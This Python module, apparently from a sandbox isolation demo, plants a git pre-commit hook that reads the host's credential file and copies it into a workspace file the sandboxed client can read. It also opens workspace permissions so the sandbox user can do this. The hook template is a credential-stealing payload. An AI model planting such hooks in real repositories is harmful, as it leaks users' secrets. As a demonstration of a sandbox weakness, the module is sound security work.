"""A hook in the client's repository that tries to read the host's password, and its loot."""

import os
import shlex
from dataclasses import dataclass
from pathlib import Path

from demo.client import run_command
from demo.places import Places, build_variables

_HOOK = """\
#!/bin/sh
# Written by whoever may write the workspace; runs where git runs.
wanted={wanted}
{{ [ -e "$wanted" ] && cat "$wanted" || echo "the hook: no ${{wanted##*/}} here"; }} 2>&1 | tee got
"""


@dataclass(frozen=True)
class Trap:
    """The hook and its loot, the file ``got`` in the workspace, which the client can read."""

    places: Places
    hook: Path

    def spring_on_host(self) -> str:
        """Run the hook as an unconfined host git would; return its loot."""
        home = build_variables(self.places.host_home)
        answer = run_command([str(self.hook)], home, cwd=self.places.workspace)
        self._loot.unlink()
        return answer.output

    def read_loot(self) -> str | None:
        """Return the hook's loot, None if it did not run."""
        return self._loot.read_text() if self._loot.exists() else None

    @property
    def _loot(self) -> Path:
        return self.places.workspace / "got"


def set_trap(places: Places) -> Trap:
    """Make the repository's pre-commit hook print the password, by its path on the host."""
    hook = places.workspace / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(_HOOK.format(wanted=shlex.quote(str(places.credential))))
    hook.chmod(0o755)
    if os.geteuid() == 0:
        _open_workspace(places)
    return Trap(places, hook)


def _open_workspace(places: Places) -> None:
    """Give the boxes' user (`[sandbox] user`) access to the workspace."""
    for folder in (places.workspace.parent, places.root):
        folder.chmod(0o711)
    for path in (places.workspace, *places.workspace.rglob("*")):
        path.chmod(0o777 if path.is_dir() or path.parent.name == "hooks" else 0o666)
